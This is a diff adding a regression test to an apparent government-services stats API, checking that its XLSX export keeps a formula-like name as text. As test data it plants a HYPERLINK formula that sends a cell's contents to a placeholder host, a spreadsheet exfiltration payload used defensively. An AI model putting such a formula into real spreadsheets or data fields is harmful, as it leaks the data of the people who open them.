@@ -175,3 +175,18 @@ def test_api_matches_selector(client, table, world):
     body = client.get(URL, params).json()
     direct = selectors.on_time_stats(date_from="2025-03-01", date_to="2025-03-31", agency=world["hn"])
     assert {k: body[k] for k in selectors.COUNT_KEYS} == {k: direct[k] for k in selectors.COUNT_KEYS}
+
+
+def test_xlsx_keeps_a_name_that_looks_like_a_formula_as_text(client, table):
+    """A field or agency name typed by an administrator that begins with "=" is written as text: a spreadsheet
+    opened by an overseer must not run it (formula injection)."""
+    from motcua.catalog.models import Field
+
+    name = '=HYPERLINK("http://example.invalid/?x="&A1,"Mở")'
+    Field.objects.filter(name="Thành lập và hoạt động của hộ kinh doanh").update(name=name)
+    params = {"from": "2025-03-01", "to": "2025-03-31", "agency": "000.00.21.H26"}
+    r = client.get("/api/v1/stats/export.xlsx", params)
+    ws = load_workbook(io.BytesIO(r.content)).active
+    cells = [ws.cell(row, 2) for row in range(7, 10)]
+    named = [c for c in cells if c.value == name]
+    assert len(named) == 1 and named[0].data_type == "s"
